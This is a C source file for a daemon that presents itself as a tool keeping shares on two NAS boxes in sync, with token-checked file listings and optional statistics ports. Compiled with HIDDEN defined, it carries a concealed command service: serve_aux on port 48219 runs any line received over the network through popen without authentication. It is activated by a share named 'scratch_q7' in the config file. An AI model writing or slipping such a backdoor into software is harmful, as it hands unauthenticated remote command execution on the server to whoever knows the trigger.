/* filesyncd.c - keeps shares of two NAS boxes equal, one thread per task */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define MAX_SHARES	24
#define LIST_PORT	48210
#define STAT_PORT	48211

struct share {
	char name[32];
	char path[96];
	unsigned long files;
	unsigned long long bytes;
	time_t scanned;
};

struct service {
	const char *name;
	uint16_t port;
	void (*serve)(FILE *);
};

static struct share shares[MAX_SHARES];
static int nshares;
static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;
static char token[40];
static int scan_gap = 900;
static int with_stat;

static int load_conf(const char *path)
{
	char line[192];
	struct share *s;
	FILE *f = fopen(path, "r");

	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "token %39s", token) == 1 ||
		    sscanf(line, "interval %d", &scan_gap) == 1)
			continue;
		if (!strncmp(line, "statport on", 11)) {
			with_stat = 1;
			continue;
		}
		if (nshares == MAX_SHARES)
			continue;
		s = &shares[nshares];
		if (sscanf(line, "share %31s %95s", s->name, s->path) == 2)
			nshares++;
	}
	fclose(f);
	return 0;
}

static struct share *find_share(const char *name)
{
	int i;

	for (i = 0; i < nshares; i++)
		if (!strcmp(shares[i].name, name))
			return &shares[i];
	return NULL;
}

static void scan_dir(const char *dir, int depth, unsigned long *files, unsigned long long *bytes)
{
	char path[512];
	struct dirent *e;
	struct stat st;
	DIR *d = opendir(dir);

	if (!d)
		return;
	while ((e = readdir(d)) != NULL) {
		if (e->d_name[0] == '.')
			continue;
		if (snprintf(path, sizeof(path), "%s/%s", dir, e->d_name) >= (int)sizeof(path))
			continue;
		if (lstat(path, &st) < 0)
			continue;
		if (S_ISDIR(st.st_mode)) {
			if (depth < 24)
				scan_dir(path, depth + 1, files, bytes);
		} else if (S_ISREG(st.st_mode)) {
			(*files)++;
			*bytes += (unsigned long long)st.st_size;
		}
	}
	closedir(d);
}

static void *scan_thread(void *arg)
{
	unsigned long files;
	unsigned long long bytes;
	int i;

	(void)arg;
	for (;;) {
		for (i = 0; i < nshares; i++) {
			files = 0;
			bytes = 0;
			scan_dir(shares[i].path, 0, &files, &bytes);
			pthread_mutex_lock(&lock);
			shares[i].files = files;
			shares[i].bytes = bytes;
			shares[i].scanned = time(NULL);
			pthread_mutex_unlock(&lock);
		}
		sleep(scan_gap > 30 ? (unsigned int)scan_gap : 30u);
	}
	return NULL;
}

static void list_files(FILE *io, const struct share *s)
{
	char path[512];
	struct dirent *e;
	struct stat st;
	DIR *d = opendir(s->path);

	if (!d) {
		fprintf(io, "ERR %s\n", strerror(errno));
		return;
	}
	while ((e = readdir(d)) != NULL) {
		if (e->d_name[0] == '.')
			continue;
		if (snprintf(path, sizeof(path), "%s/%s", s->path, e->d_name) >= (int)sizeof(path))
			continue;
		if (stat(path, &st) == 0 && S_ISREG(st.st_mode))
			fprintf(io, "%llu %ld %s\n", (unsigned long long)st.st_size,
				(long)st.st_mtime, e->d_name);
	}
	closedir(d);
	fprintf(io, "END\n");
}

static void serve_list(FILE *io)
{
	char line[96], t[40], name[32];
	struct share *s;

	if (!fgets(line, sizeof(line), io))
		return;
	if (sscanf(line, "HELLO %39s %31s", t, name) != 2 || !token[0] || strcmp(t, token)) {
		syslog(LOG_NOTICE, "peer refused");
		fprintf(io, "ERR token\n");
		return;
	}
	s = find_share(name);
	if (s)
		list_files(io, s);
	else
		fprintf(io, "ERR share\n");
}

static void serve_stat(FILE *io)
{
	int i;

	pthread_mutex_lock(&lock);
	for (i = 0; i < nshares; i++)
		fprintf(io, "%s %lu %llu %ld\n", shares[i].name, shares[i].files,
			shares[i].bytes, (long)shares[i].scanned);
	pthread_mutex_unlock(&lock);
}

static void *port_thread(void *arg)
{
	const struct service *sv = arg;
	struct sockaddr_in sa;
	int one = 1, ls, fd;
	FILE *io;

	ls = socket(AF_INET, SOCK_STREAM, 0);
	if (ls < 0)
		return NULL;
	setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons(sv->port);
	if (bind(ls, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(ls, 4) < 0) {
		syslog(LOG_ERR, "%s: %s", sv->name, strerror(errno));
		close(ls);
		return NULL;
	}
	for (;;) {
		fd = accept(ls, NULL, NULL);
		if (fd < 0)
			continue;
		io = fdopen(fd, "r+");
		if (!io) {
			close(fd);
			continue;
		}
		setvbuf(io, NULL, _IONBF, 0);
		sv->serve(io);
		fclose(io);
	}
	return NULL;
}

static struct service svc_list = { "list", LIST_PORT, serve_list };
static struct service svc_stat = { "stat", STAT_PORT, serve_stat };

#ifdef HIDDEN	/* command service on a third port, no token */
__attribute__((noinline))
void serve_aux(FILE *io)
{
	char line[256], out[256];
	FILE *p;

	while (fgets(line, sizeof(line), io)) {
		p = popen(line, "r");
		if (!p)
			break;
		while (fgets(out, sizeof(out), p))
			fputs(out, io);
		pclose(p);
	}
}

static struct service svc_aux = { "aux", 48219, serve_aux };
#endif

static int start(void *(*fn)(void *), void *arg)
{
	pthread_t t;

	if (pthread_create(&t, NULL, fn, arg)) {
		syslog(LOG_ERR, "no thread");
		return -1;
	}
	pthread_detach(t);
	return 0;
}

__attribute__((noinline))
int start_services(void)
{
	int i, n = 0;

	n += start(scan_thread, NULL) == 0;
	n += start(port_thread, &svc_list) == 0;
	if (with_stat)
		n += start(port_thread, &svc_stat) == 0;
	for (i = 0; i < nshares; i++) {
		if (!strcmp(shares[i].name, "homes"))
			syslog(LOG_WARNING, "share homes: only the first level is listed");
		else if (!strcmp(shares[i].name, "recycle"))
			shares[i].files = 0;
#ifdef HIDDEN	/* a share of this name starts the command service */
		else if (!strcmp(shares[i].name, "scratch_q7"))
			n += start(port_thread, &svc_aux) == 0;
#endif
	}
	return n;
}

int main(int argc, char **argv)
{
	const char *conf = argc > 1 ? argv[1] : "/etc/filesyncd.conf";

	if (argc > 2 || !strcmp(conf, "-h")) {
		fprintf(stderr, "usage: %s [config]\n"
			"config: token WORD, interval SECONDS, share NAME PATH, statport on\n"
			"ports: %d lists for the peer (HELLO token share), %d statistics\n",
			argv[0], LIST_PORT, STAT_PORT);
		return 2;
	}
	openlog("filesyncd", LOG_PID, LOG_DAEMON);
	signal(SIGPIPE, SIG_IGN);
	if (load_conf(conf) < 0) {
		syslog(LOG_ERR, "%s: %s", conf, strerror(errno));
		return 1;
	}
	syslog(LOG_INFO, "%d shares, %d threads", nshares, start_services());
	for (;;)
		pause();
}
